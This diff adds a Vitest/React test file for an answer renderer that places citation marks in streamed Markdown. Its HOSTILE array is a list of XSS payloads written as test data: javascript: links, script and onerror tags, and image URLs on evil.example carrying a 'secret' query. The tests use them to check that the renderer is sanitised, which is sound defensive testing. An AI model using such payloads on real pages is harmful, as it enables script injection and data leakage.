@@ -1,0 +1,290 @@
+import { act, cleanup, render, screen } from "@testing-library/react";
+import { afterEach, describe, expect, test, vi } from "vitest";
+import type { Citation } from "@/api/types";
+import { aSource, behind, cites } from "@/testing/answers";
+import { AnswerText } from "./AnswerText";
+import { MarksContext } from "./CitationMark";
+
+afterEach(cleanup);
+
+const SOURCES = [aSource(), aSource({ source_id: 2, filename: "valves.md" })];
+
+function show(text: string, citations: readonly Citation[] = []): HTMLElement {
+  const { container } = render(
+    <MarksContext value={{ sources: SOURCES, open: false, onOpen: () => undefined }}>
+      <AnswerText text={text} citations={citations} />
+    </MarksContext>,
+  );
+  return container;
+}
+
+/** Returns the visible text, with marks as ‹1›, or ‹1?› if they are not verified. */
+function read(container: HTMLElement): string {
+  for (const button of container.querySelectorAll("button")) {
+    button.textContent = `‹${button.textContent}›`;
+  }
+  return container.textContent ?? "";
+}
+
+describe("a mark", () => {
+  test("replaces the marker in its sentence", () => {
+    const text = "It opens [1]. It closes.";
+    const citation = cites(text, "It opens [1].", behind(text, "opens [1]"));
+    expect(read(show(text, [citation]))).toBe("It opens ‹1›. It closes.");
+  });
+
+  test("replaces the marker after its sentence", () => {
+    const text = "It opens. [1] It closes.\n\n[2]\n\nEnd.";
+    const citations = [
+      cites(text, "It opens.", behind(text, "[1]")),
+      cites(text, "It closes.", { source_id: 2, verified: false, ...behind(text, "[2]") }),
+    ];
+    expect(read(show(text, citations))).toBe("It opens. ‹1› It closes.‹2?›End.");
+  });
+
+  test("replaces the marker at the start of its line", () => {
+    const text = "It is old [1].\n1. [1] It opens.\n2. [1] It closes.";
+    show(text, [
+      cites(text, "It opens.", behind(text, "1. [1]")),
+      cites(text, "It is old [1].", { verified: false, ...behind(text, "old [1]") }),
+    ]);
+    const names = screen.getAllByRole("button").map((mark) => mark.getAttribute("aria-label"));
+    expect(names).toEqual([
+      "Source 1, not verified: pump-manual.md",
+      "Source 1, verified: pump-manual.md",
+      "Source 1, no quotation found: pump-manual.md",
+    ]);
+  });
+
+  test("is repeated for each citation behind one marker, in order", () => {
+    const text = 'He said "open" and "shut" [1][2].';
+    const first = behind(text, "[1]");
+    const citations = [
+      cites(text, text, { citation_id: "a", ...first }),
+      cites(text, text, { citation_id: "b", verified: false, ...first }),
+      cites(text, text, { citation_id: "c", source_id: 2, ...behind(text, "[2]") }),
+    ];
+    expect(read(show(text, citations))).toBe('He said "open" and "shut" ‹1›‹1?›‹2›.');
+  });
+
+  test("replaces its own marker if a sentence names a source twice", () => {
+    const text = '😀 He said "open" [1] and "shut" [1].';
+    const citations = [
+      cites(text, text, { citation_id: "a", ...behind(text, '"shut" [1]') }),
+      cites(text, text, { citation_id: "b", verified: false, ...behind(text, '"open" [1]') }),
+    ];
+    expect(read(show(text, citations))).toBe('😀 He said "open" ‹1?› and "shut" ‹1›.');
+  });
+
+  test("is updated in place when the citation arrives after its marker", () => {
+    const text = "It opens [1]. It closes";
+    const { container, rerender } = render(null);
+    const write = (citations: Citation[]) =>
+      rerender(
+        <MarksContext value={{ sources: SOURCES, open: true, onOpen: () => undefined }}>
+          <AnswerText text={text} citations={citations} />
+        </MarksContext>,
+      );
+    write([]);
+    expect(screen.getByRole("button").getAttribute("aria-label")).toContain("being checked");
+    expect(container.textContent).toBe("It opens 1. It closes");
+    write([cites(text, "It opens [1].", behind(text, "[1]"))]);
+    expect(screen.getByRole("button").getAttribute("aria-label")).toContain("Source 1, verified");
+    expect(container.textContent).toBe("It opens 1. It closes");
+  });
+
+  test("is after its sentence if its marker is not rendered as one", () => {
+    const text = "Call `open([1])` now. Next";
+    const citation = cites(text, "Call `open([1])` now.", behind(text, "[1]"));
+    expect(read(show(text, [citation]))).toBe("Call open([1]) now.‹1› Next");
+  });
+
+  test("is after its sentence without a marker, also behind astral characters", () => {
+    const text = "😀 Ein 🦜 lebt. Es *öffnet*. Ende";
+    const citations = [
+      cites(text, "😀 Ein 🦜 lebt."),
+      cites(text, "Es *öffnet*.", { source_id: 2 }),
+    ];
+    expect(read(show(text, citations))).toBe("😀 Ein 🦜 lebt.‹1› Es öffnet.‹2› Ende");
+  });
+
+  test("is after text with escapes and entities", () => {
+    const text = "5 \\* 3 &amp; more. Next";
+    const container = show(text, [cites(text, "5 \\* 3 &amp; more.")]);
+    expect(read(container)).toBe("5 * 3 & more. Next‹1›");
+  });
+
+  test("replaces a marker among escapes, entities and block quotation lines", () => {
+    const text = "> 5 \\* 3\n> &amp; more [1]. \\[1\\]\n";
+    const citation = cites(text, "5 \\* 3\n> &amp; more [1].", behind(text, "more [1]"));
+    expect(read(show(text, [citation]))).toBe("5 * 3\n& more ‹1›. [1]");
+  });
+
+  test("is inside its list item or table cell", () => {
+    const text = "- one [1]\n- two\n\n| a | b |\n|---|---|\n| left | right [2] |\n";
+    const container = show(text, [
+      cites(text, "one [1]", behind(text, "one [1]")),
+      cites(text, "two", { source_id: 2 }),
+      cites(text, "| left | right [2] |", { source_id: 2, ...behind(text, "right [2]") }),
+    ]);
+    read(container);
+    const texts = Array.from(container.querySelectorAll("li, td"), (each) => each.textContent);
+    expect(texts).toEqual(["one ‹1›", "two‹2›", "left", "right ‹2›"]);
+  });
+
+  test("is after code, never inside", () => {
+    const text = "Call `open([1])` now.\n\n```\nopen() [1]\n```\n\nEnd";
+    const container = show(text, [
+      cites(text, "Call `open", { source_id: 2 }),
+      cites(text, "open() [1]"),
+    ]);
+    const codes = Array.from(container.querySelectorAll("code"), (each) => each.textContent);
+    expect(codes).toEqual(["open([1])", "open() [1]"]);
+    expect(container.querySelector("code button")).toBeNull();
+    expect(read(container)).toBe("Call open([1])‹2› now.open() [1]‹1›End");
+  });
+
+  test("replaces the marker of a source without citations, but not of an unknown source", () => {
+    expect(read(show("It opens [2]. It closes [9]."))).toBe("It opens ‹2›. It closes [9].");
+  });
+
+  test("is stable while the answer streams in", () => {
+    const text = "One [1].\n\n- two [2]\n- three\n\nFour [1]. Five";
+    const citations = [
+      cites(text, "One [1].", behind(text, "One [1]")),
+      cites(text, "two [2]", { source_id: 2, ...behind(text, "two [2]") }),
+    ];
+    const { container, rerender } = render(null);
+    for (let end = 1; end <= text.length; end += 1) {
+      const come = citations.filter(({ answer_end }) => answer_end <= end);
+      rerender(
+        <MarksContext value={{ sources: SOURCES, open: true, onOpen: () => undefined }}>
+          <AnswerText text={text.slice(0, end)} citations={come} />
+        </MarksContext>,
+      );
+    }
+    expect(read(container)).toBe("One ‹1›.two ‹2›threeFour ‹1›. Five");
+  });
+});
+
+describe("a mark of an answer that was stored without marker offsets", () => {
+  test.each([
+    ["in its sentence", "It opens [1]. It closes.", "It opens [1].", "It opens ‹1›. It closes."],
+    ["behind its sentence", "It opens. [1] It closes.", "It opens.", "It opens. ‹1› It closes."],
+    ["not there", "It opens. It closes [2].", "It opens.", "It opens.‹1› It closes ‹2›."],
+    [
+      "that of another sentence",
+      "It opens. It closes [1].",
+      "It opens.",
+      "It opens.‹1› It closes ‹1›.",
+    ],
+  ])("is placed by its sentence: marker %s", (_, text, sentence, shown) => {
+    expect(read(show(text, [cites(text, sentence)]))).toBe(shown);
+  });
+
+  test("is repeated for each citation of its sentence and source", () => {
+    const text = 'He said "open" and "shut" [1][2].';
+    const citations = [
+      cites(text, text, { citation_id: "a" }),
+      cites(text, text, { citation_id: "b", verified: false }),
+    ];
+    expect(read(show(text, citations))).toBe('He said "open" and "shut" ‹1›‹1?›‹2›.');
+  });
+
+  test("does not take the marker of another citation", () => {
+    const text = "It opens [1]. It closes.";
+    const citations = [
+      cites(text, "It opens [1].", { citation_id: "a", ...behind(text, "[1]") }),
+      cites(text, "It opens [1].", { citation_id: "b", verified: false }),
+    ];
+    expect(read(show(text, citations))).toBe("It opens ‹1›.‹1?› It closes.");
+  });
+});
+
+describe("Markdown", () => {
+  test("has no heading above the third level", () => {
+    show("# One\n\n## Two\n\n### Three\n\nFour\n===\n");
+    const levels = screen.getAllByRole("heading").map(({ tagName }) => tagName);
+    expect(levels).toEqual(["H3", "H3", "H4", "H3"]);
+  });
+
+  test("makes tables and code scrollable by keyboard", () => {
+    show("| a |\n|---|\n| b |\n\n```\nc\n```");
+    expect(screen.getByRole("group", { name: "Table" }).tabIndex).toBe(0);
+    expect(screen.getByRole("group", { name: "Code" }).tabIndex).toBe(0);
+  });
+
+  test("preserves list numbers and task states", () => {
+    const container = show("3. three\n4. four\n\n- [x] yes\n- [ ] no");
+    expect(container.querySelector("ol")?.start).toBe(3);
+    expect(screen.getByRole("img", { name: "Done:" })).toBeDefined();
+    expect(screen.getByRole("img", { name: "To do:" })).toBeDefined();
+  });
+
+  test("renders links as text with their address, and images as their alt text", () => {
+    expect(read(show("[the docs](https://a.example/x) ![a *cat*](https://b.example/c.png)"))).toBe(
+      "the docs (https://a.example/x) [image: a cat]",
+    );
+  });
+});
+
+const HOSTILE = [
+  "[click](javascript:alert(1)) and [data](data:text/html,<script>alert(1)</script>)",
+  '![x](https://evil.example/?q=secret "t") ![](//evil.example/p.gif)',
+  "<https://evil.example> https://evil.example www.evil.example me@evil.example",
+  '<script>alert(1)</script>\n\n<img src=x onerror=alert(1)>\n\n<iframe src="//evil.example">',
+  "<style>*{display:none}</style> <object data=x></object> <form action=//evil.example>",
+  "[ref][a] ![img][a] [a]\n\n[a]: https://evil.example 'title'\n\n[1]: javascript:alert(1)\n\n[1]",
+  "<!-- comment --><b onclick='x()'>bold</b> &lt;img src=x&gt; &#60;script&#62;",
+  "<svg/onload=alert(1)> <math><mi//xlink:href='data:x,<script>'>",
+  "[![nested](https://evil.example/a.png)](https://evil.example)",
+  "[^1] and [^x]\n\n[^1]: <img src=x>\n\n[^x]: https://evil.example",
+  "```html onload=x\n<script>alert(1)</script>\n```\n\n    <img src=x onerror=alert(1)>",
+  "| <img src=x> | [a](javascript:x) |\n|---|---|\n| ![x](//evil.example) | <a href=x>y</a> |",
+  "[a](vbscript:x) [b](\u0001javascript:x) [c](&#106;avascript:x) [d](java\nscript:x)",
+];
+
+describe.each(HOSTILE)("hostile Markdown %j", (text) => {
+  test("never renders anything that loads, runs or links, at any prefix", () => {
+    const { container, rerender } = render(null);
+    for (let end = 1; end <= text.length; end += 1) {
+      rerender(<AnswerText text={text.slice(0, end)} citations={[]} />);
+      expect(
+        container.querySelector(
+          "a, area, img, picture, video, audio, source, iframe, frame, script, style, link, meta, base, object, embed, form, input, svg, math, [src], [href], [srcset], [action], [style]",
+        ),
+      ).toBeNull();
+      for (const element of container.querySelectorAll("*")) {
+        expect(element.getAttributeNames().filter((name) => name.startsWith("on"))).toEqual([]);
+      }
+    }
+  });
+});
+
+test("a very long block grows in steps, and is complete in the end", () => {
+  vi.useFakeTimers();
+  const table = `| a | b |\n|---|---|\n${"| a row of a | long table |\n".repeat(500)}`;
+  const { container, rerender } = render(<AnswerText text={table} citations={[]} />);
+  const drawn = () => container.querySelectorAll("tbody tr").length;
+  rerender(<AnswerText text={`${table}| one |`} citations={[]} />);
+  rerender(<AnswerText text={`${table}| one |\n| two |`} citations={[]} />);
+  expect(drawn()).toBe(500);
+  act(() => vi.advanceTimersByTime(200));
+  expect(drawn()).toBe(502);
+  vi.useRealTimers();
+});
+
+test("a long list is one list, and only its end renders again", () => {
+  const items = "- an item\n".repeat(300);
+  const { container, rerender } = render(<AnswerText text={items} citations={[]} />);
+  const first = container.querySelector("li");
+  rerender(<AnswerText text={`${items}- last\n\nEnd`} citations={[]} />);
+  expect(container.querySelectorAll("ul")).toHaveLength(1);
+  expect(container.querySelectorAll("ul > li")).toHaveLength(301);
+  expect(container.querySelector("li")).toBe(first);
+});
+
+test("HTML is shown as text", () => {
+  const text = "a <b>bold</b> word\n\n<div>block</div>\n\n<!-- note -->";
+  expect(read(show(text))).toBe("a <b>bold</b> word<div>block</div><!-- note -->");
+});
